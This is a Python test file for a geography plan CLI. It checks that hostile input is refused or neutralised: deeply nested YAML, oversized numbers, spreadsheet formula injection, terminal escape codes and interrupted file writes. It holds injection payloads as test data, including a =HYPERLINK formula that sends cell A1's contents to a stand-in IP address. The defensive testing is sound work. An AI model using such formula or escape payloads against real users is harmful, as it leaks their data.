"""Hostile and careless input (issue 10): each finding reproduced on attack files the test makes itself.

Nothing here needs the official data; the attacks must be refused with a one-line message, a
non-zero exit and no partial file, and must never crash the process.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from hiap_geo.cli import main, terminal_text
from hiap_geo.core import settings
from hiap_geo.core._yaml import YamlProblems, parse_strict
from hiap_geo.core.cells import csv_bytes, safe_frame, text_cell
from hiap_geo.core.files import STALE_AFTER_S, atomic_path, remove_stale_parts
from hiap_geo.core.limits import MAX_NESTING

TW_FILE = settings.PROJECT_ROOT / "data" / "plans" / "tunbridge-wells-2023-25.yaml"
TW = "tunbridge-wells-2023-25"


def run_cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    """The CLI in its own process, so a crash (a segfault) shows as a signal, not as a dead test runner."""
    return subprocess.run([sys.executable, "-m", "hiap_geo", *args], capture_output=True, text=True, timeout=120,
                          cwd=cwd or settings.PROJECT_ROOT)


# --- 1. Deep nesting ---------------------------------------------------------------------------------


def nested_plan(tmp_path: Path, depth: int = 50_000) -> Path:
    path = tmp_path / "nested.yaml"
    path.write_text("plan_id: x\ntitle: " + "[" * depth + "]" * depth + "\n")
    return path


def test_deeply_nested_yaml_is_refused_not_a_crash(tmp_path: Path) -> None:
    result = run_cli("plan", "check", str(nested_plan(tmp_path)))
    assert result.returncode == 2, result.stderr[-500:]
    assert f"nested more than {MAX_NESTING} levels" in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("doc", ["a: " + "[" * 100_000, "a:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 80))
                                 + "  " * 80 + "v: 1"])
def test_any_deep_document_is_refused_before_parsing(doc: str) -> None:
    with pytest.raises(YamlProblems, match="nested more than"):
        parse_strict(doc, "fields")


def test_nesting_within_the_limit_still_parses() -> None:
    _, data = parse_strict("a:\n  b:\n    c: [1, [2, [3]]]\n", "fields")
    assert data == {"a": {"b": {"c": [1, [2, [3]]]}}}


def test_a_number_of_thousands_of_digits_is_a_message_not_a_traceback(tmp_path: Path) -> None:
    with pytest.raises(YamlProblems, match="cannot be read"):
        parse_strict("a: 1" + "0" * 5_001, "fields")
    path = tmp_path / "digits.yaml"
    path.write_text("plan_id: x\nversion: 1" + "0" * 5_001 + "\n")
    result = run_cli("plan", "check", str(path))
    assert result.returncode == 2 and "Traceback" not in result.stderr


# --- 3. Formulas -------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_a_spreadsheet_reads_as_a_formula_is_written_as_text(text: str) -> None:
    assert text_cell(text) == "'" + text
    frame = pd.DataFrame({"note": [text], "value": [-1.5]})
    safe = safe_frame(frame)
    assert safe.loc[0, "note"] == "'" + text and safe.loc[0, "value"] == -1.5  # numbers stay numbers
    read_back = pd.read_csv(io.BytesIO(csv_bytes(frame)), keep_default_na=False)
    assert read_back.loc[0, "note"] == "'" + text or text.startswith("\r")  # a bare CR is a line end to CSV


def test_ordinary_text_and_headers_are_unchanged() -> None:
    frame = pd.DataFrame({"=cmd": ["Sherwood", "E01024840", None]})
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=cmd"]
    assert safe.iloc[:2, 0].tolist() == ["Sherwood", "E01024840"] and pd.isna(safe.iloc[2, 0])


# --- 9. Error paths: one line, non-zero, nothing half-written ------------------------------------------


def test_a_bad_review_date_is_a_message(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'p.sqlite'}"
    assert main(["plan", "register", str(TW_FILE), "--db", db]) == 0
    result = run_cli("plan", "review", TW, "1.1", "done", "--date", "2024-13-45", "--db", db)
    assert result.returncode == 2 and "is not a date" in result.stderr and "Traceback" not in result.stderr


def test_export_to_a_folder_is_a_message(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{tmp_path / 'p.sqlite'}"
    assert main(["plan", "register", str(TW_FILE), "--db", db]) == 0
    assert main(["plan", "export", TW, "-o", str(tmp_path), "--db", db]) == 2
    assert "is a folder" in capsys.readouterr().err


def test_export_to_an_unwritable_place_is_a_message(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{tmp_path / 'p.sqlite'}"
    assert main(["plan", "register", str(TW_FILE), "--db", db]) == 0
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    assert main(["plan", "export", TW, "-o", str(blocker / "plan.json"), "--db", db]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and len(err.strip().splitlines()) == 1
    assert list(tmp_path.glob("**/*.part")) == []


def test_profile_out_at_a_file_is_a_message(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "not-a-folder"
    target.write_text("x")
    assert main(["profile", "E01024840", "--out", str(target)]) == 2
    assert "is a file" in capsys.readouterr().err


def test_terminal_escape_codes_in_notes_are_not_printed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{tmp_path / 'p.sqlite'}"
    assert main(["plan", "register", str(TW_FILE), "--db", db]) == 0
    note = "ok\x1b[2J\x1b]0;owned\x07 then\rover"
    assert main(["plan", "review", TW, "1.1", "done", "--date", "2024-01-02", "--note", note, "--db", db]) == 0
    capsys.readouterr()
    assert main(["plan", "history", TW, "--db", db]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out and "ok[2J]0;owned then" in out
    assert terminal_text("a\tb\nc\x1b") == "a\tb\nc"


def test_a_killed_writer_leaves_no_part_file_for_long(tmp_path: Path) -> None:
    final = tmp_path / "layer.parquet"
    orphan = tmp_path / ".layer.parquet.deadbeef.part"
    orphan.write_bytes(b"half")
    old = time.time() - STALE_AFTER_S - 5
    os.utime(orphan, (old, old))
    live = tmp_path / ".layer.parquet.cafe.part"
    live.write_bytes(b"being written")
    with atomic_path(final) as tmp:
        tmp.write_bytes(b"whole")
    assert final.read_bytes() == b"whole"
    assert not orphan.exists() and live.exists()  # a writer still at work is left alone
    assert remove_stale_parts(final) == []


def test_a_failed_write_leaves_the_old_file(tmp_path: Path) -> None:
    final = tmp_path / "report.json"
    final.write_text("old")
    with pytest.raises(RuntimeError), atomic_path(final) as tmp:
        tmp.write_text("new, half")
        raise RuntimeError("disk full")
    assert final.read_text() == "old" and list(tmp_path.glob("*.part")) == []


def test_a_killed_fetch_leaves_nothing_behind(tmp_path: Path) -> None:
    """SIGTERM during a mirror copy: the temporary file is removed, the cache has no half file."""
    mirror = tmp_path / "mirror"
    (mirror / "big").mkdir(parents=True)
    registry = tmp_path / "sources.yaml"
    big = mirror / "big" / "file.bin"
    with big.open("wb") as fh:
        fh.truncate(600 * 1024 * 1024)  # sparse: long enough to copy that the kill lands mid-way
    registry.write_text(json.dumps({"datasets": [{
        "id": "big", "title": "t", "publisher": "p", "vintage": "v", "licence": "OGL", "page": "http://127.0.0.1/",
        "url": "http://127.0.0.1/", "mirror_path": "big/file.bin", "sha256": "0" * 64}]}))
    cache = tmp_path / "cache"
    code = ("import sys; from pathlib import Path; from hiap_geo.acquire.registry import load_registry;"
            "from hiap_geo.acquire.fetch import fetch_all;"
            "from hiap_geo import cli; import signal; signal.signal(signal.SIGTERM, cli._stop_on_sigterm);"
            f"fetch_all(load_registry(Path({str(registry)!r})), mirror=Path({str(mirror)!r}))")
    proc = subprocess.Popen([sys.executable, "-c", code], env={**os.environ, "HIAP_CACHE_DIR": str(cache)},
                            cwd=settings.PROJECT_ROOT, stderr=subprocess.PIPE)
    deadline = time.time() + 60
    while not list(cache.glob("**/*.part")) and time.time() < deadline and proc.poll() is None:
        time.sleep(0.05)
    proc.terminate()
    proc.wait(timeout=60)
    assert proc.returncode == 143, "the kill should land while the file is being copied"
    assert list(cache.glob("**/*.part")) == [] and not (cache / "sources" / "big" / "file.bin").exists()


# --- 3. Formulas in the files a bid writer opens -----------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://198.51.100.7/?"&A1,"Sherwood")'


def test_a_group_name_that_is_a_formula_stays_text_in_xlsx_and_csv(real_data: Path) -> None:
    import openpyxl

    from hiap_geo.render.profile.assemble import build_profile
    from hiap_geo.render.profile.export import export

    profile = build_profile(["E01024840", "E01024841"], name=FORMULA_NAME)
    book = openpyxl.load_workbook(io.BytesIO(export(profile, "xlsx")))
    formulas = [(ws.title, c.coordinate) for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert FORMULA_NAME in texts  # shown exactly as typed, as text
    rows = list(csv.reader(io.StringIO(export(profile, "csv").decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA_NAME in cells and FORMULA_NAME not in cells


def test_profile_files_are_all_or_nothing(real_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from hiap_geo.render.profile import export as export_module
    from hiap_geo.render.profile.assemble import build_profile

    profile = build_profile("E01024840")
    real_atomic = export_module.atomic_path
    calls = {"n": 0}

    def failing_third(final: Path):  # noqa: ANN202 - a context manager like atomic_path
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError(28, "No space left on device", str(final))
        return real_atomic(final)

    monkeypatch.setattr(export_module, "atomic_path", failing_third)
    with pytest.raises(OSError):
        export_module.write_profile(profile, ["pdf", "csv", "xlsx", "geojson"], tmp_path / "out")
    assert list((tmp_path / "out").iterdir()) == []


# --- 8. Work bounded in time ------------------------------------------------------------------------------


def plan_naming(tmp_path: Path, n: int) -> Path:
    """The Tunbridge Wells plan with every action's target replaced by ``n`` unknown ward names."""
    names = ", ".join(f'"Nowhere ward {i}"' for i in range(n))
    text = TW_FILE.read_text().replace(
        "target_areas: [{kind: district, specified: false}]",
        "target_areas: [{kind: names, area_type: ward, names: [" + names + "]}]", 1)
    path = tmp_path / f"names-{n}.yaml"
    path.write_text(text)
    return path


def test_plan_check_of_many_unknown_names_is_near_linear(real_data: Path, tmp_path: Path) -> None:
    """1,000 unknown names took 110 s when every name was matched against every English ward; the
    gazetteer is now indexed once. Times are compared with each other (same machine, same run), not
    with a wall-clock limit."""
    from hiap_geo.plans.check import check_plan
    from hiap_geo.plans.load import read_plan

    def seconds(n: int) -> float:
        loaded = read_plan(plan_naming(tmp_path, n))
        start = time.perf_counter()
        found = check_plan(loaded)
        assert sum(d.kind == "unknown_name" for d in found) == n
        return time.perf_counter() - start

    seconds(10)  # warm the lookups and the index
    small, large = seconds(100), seconds(1_000)
    assert large < 15 * small + 1.0, (small, large)  # ten times the names: about ten times the work, not 100
